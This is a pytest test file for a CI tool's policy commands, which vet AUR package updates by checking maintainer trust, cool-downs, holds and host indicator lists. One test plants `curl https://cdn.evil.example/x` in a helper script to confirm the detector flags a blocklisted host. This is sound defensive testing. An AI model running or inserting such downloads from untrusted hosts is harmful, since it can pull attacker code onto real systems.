"""`caur-ci policy check` and `explain`, and what a policy means to the back-test."""

from __future__ import annotations

import json
import time
from typing import TYPE_CHECKING

import pytest

from caur_ci.cli.main import run
from caur_ci.cli.session import Session
from caur_ci.errors import ExitCode
from caur_ci.git import GitRepository, Identity
from caur_ci.pipeline.shared.memory.adoptions import Adoption
from caur_ci.pipeline.shared.memory.branch import Memory
from caur_ci.pipeline.shared.memory.holds import Hold, Holds
from caur_ci.update.source import LastSeen
from tests.support.git import Checkout, git
from tests.support.upstream import files_of

if TYPE_CHECKING:
    from pathlib import Path

Captured = pytest.CaptureFixture[str]


@pytest.fixture(autouse=True)
def here(checkout: Checkout, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Work in a checkout with packages `a` and `b`."""
    files = {f"{name}/{path}": it for name in "ab" for path, it in files_of(name, "1-1").items()}
    checkout.commit("feat: begin", {".ci/config": "CI_HUMAN_REVIEW=true\n", **files})
    checkout.push()
    monkeypatch.chdir(checkout.folder)
    monkeypatch.setenv("COLUMNS", "200")
    return checkout.folder


def policy(*arguments: str) -> int:
    return run(["policy", *arguments], Session())


class TestCheck:
    """What can be wrong with a policy, and with the packages by it."""

    def test_none_is_fine(self, capsys: Captured) -> None:
        assert policy("check") == ExitCode.OK
        assert "the policy can be used" in capsys.readouterr().err

    def test_what_cannot_be_used_is_told(self, here: Path, capsys: Captured) -> None:
        (here / ".ci/policy.toml").write_text("[age]\npackage = 5\n")

        assert policy("check") == ExitCode.FAILED
        assert "age.package: 5 is not of type 'string'" in capsys.readouterr().err

    def test_packages_that_do_not_exist_are_named(self, here: Path, capsys: Captured) -> None:
        (here / ".ci/policy.toml").write_text("[packages.nobody]\n")

        assert policy("check") == ExitCode.FAILED
        assert "the policy names nobody, which is no package folder" in capsys.readouterr().err

    def test_packages_with_something_of_the_lists_are_named(
        self, here: Path, capsys: Captured
    ) -> None:
        (here / ".ci/policy.toml").write_text("[indicators]\nhosts = ['bad']\n")
        (here / ".ci/bad").write_text("evil.example\n")
        assert policy("check") == ExitCode.OK
        assert "package folders have nothing of the lists" in capsys.readouterr().err

        (here / "b/helper.sh").write_text("curl https://cdn.evil.example/x\n")

        assert policy("check", "--json") == ExitCode.FAILED
        output = capsys.readouterr()
        assert "b: helper.sh: it names a host of the lists: cdn.evil.example" in output.err
        assert [*json.loads(output.out)["found"]] == ["b"]

    def test_links_lead_nowhere(self, here: Path, tmp_path: Path, capsys: Captured) -> None:
        secret = tmp_path / "secret"
        secret.write_text("[password]\n")
        (here / ".ci/policy.toml").symlink_to(secret)

        assert policy("check") == ExitCode.OK
        assert "password" not in capsys.readouterr().err


def remember(checkout: Checkout, memory: Memory) -> None:
    """Put a memory on branch `caur` of the remote."""
    store = GitRepository.open(checkout.folder)
    commit = memory.write(store, Identity("Me", "me@example.org"))
    git(checkout.folder, "push", "--quiet", "origin", f"{commit}:refs/heads/caur")


class TestExplain:
    """How a package stands with the policy."""

    def test_a_package_that_nothing_is_known_of(self, capsys: Captured) -> None:
        assert policy("explain", "a") == ExitCode.OK

        output = capsys.readouterr().out
        assert "nothing is known of a maintainer at the AUR" in output
        assert "a warning leads to: review" in output
        assert "a danger leads to: review" in output
        assert "aur-gone leads to: alarm" in output

    def test_everything_that_is_known(
        self, checkout: Checkout, here: Path, capsys: Captured
    ) -> None:
        (here / ".ci/policy.toml").write_text(
            "[maintainers]\ntrusted = ['alice']\n"
            "[age]\nadoption = '3 days'\ncool-down = '1 day'\n"
            "[packages.a]\nhosts = ['example.org']\n[packages.a.codes]\nsum-skipped = 'alarm'\n"
        )
        now = int(time.time())
        seen = LastSeen(
            origin="x", modified=5, maintainer="alice", comaintainers="bob", submitted=86400
        )
        adoption = Adoption(package="a", account="alice", before="carol", time=now - 86400)
        memory = Memory(holds=Holds().with_hold("a", Hold("dave", now, "odd")))
        memory = memory.with_adoptions([adoption]).with_sources({"a": seen}, memory.commits)
        remember(checkout, memory)

        assert policy("explain", "a") == ExitCode.OK
        told = capsys.readouterr().out
        assert policy("explain", "a", "--json") == ExitCode.OK
        data = json.loads(capsys.readouterr().out)

        assert "alice maintains it at the AUR, with bob; it is there since 1970-01-02" in told
        assert "which was seen 1 day ago" in told
        assert "they count as new for 1 day more" in told
        assert "not trusted: bob" in told
        assert "versions are taken over 1 day after they were pushed" in told
        assert "sources may move to example.org" in told
        assert "sum-skipped leads to: alarm" in told
        assert "it is on hold by dave since" in told
        assert (data["trusted"], data["untrusted"]) == (False, ["bob"])

    def test_trust_is_told(self, checkout: Checkout, here: Path, capsys: Captured) -> None:
        (here / ".ci/aur-maintainers").write_text("alice\n")
        seen = LastSeen(origin="x", modified=5, maintainer="alice", submitted=86400)
        remember(checkout, Memory().with_sources({"a": seen}, Memory().commits))

        assert policy("explain", "a") == ExitCode.OK

        told = capsys.readouterr().out
        assert "everybody who may push is trusted: warnings need nobody" in told
        assert "a warning leads to: apply" in told
        assert "a danger leads to: review" in told

    def test_names_that_mean_no_package(self, capsys: Captured) -> None:
        assert policy("explain", "aa") == ExitCode.FAILED
        assert "there is no package aa" in capsys.readouterr().err


def test_the_back_test_tells_what_a_policy_brings_before_people(
    checkout: Checkout, here: Path, tmp_path: Path, capsys: Captured
) -> None:
    for version, note in (("2-1", ""), ("3-1", "x")):
        files = {f"a/{path}": it for path, it in files_of("a", version, note).items()}
        checkout.commit("chore(update): a", {**files})
    own = tmp_path / "policy.toml"
    own.write_text("[codes]\nvariable-changed = 'apply'\n")
    command = ["judge", "--history", str(here), "--json"]

    assert run(command, Session()) == ExitCode.OK
    without = json.loads(capsys.readouterr().out)
    assert run([*command, "--policy", str(own)], Session()) == ExitCode.OK
    with_policy = json.loads(capsys.readouterr().out)

    assert without["verdicts"] == with_policy["verdicts"]
    assert (without["verdicts"]["major"], without["for_people"]) == (1, 1)
    assert with_policy["for_people"] == 0


def test_a_policy_that_cannot_be_used_is_named(tmp_path: Path, capsys: Captured) -> None:
    own = tmp_path / "mine.toml"
    own.write_text("[codes]\nnothing = 'apply'\n")

    assert run(["judge", "--history", ".", "--policy", str(own)], Session()) == ExitCode.FAILED
    assert f"{own}: codes: there is no finding 'nothing'" in capsys.readouterr().err
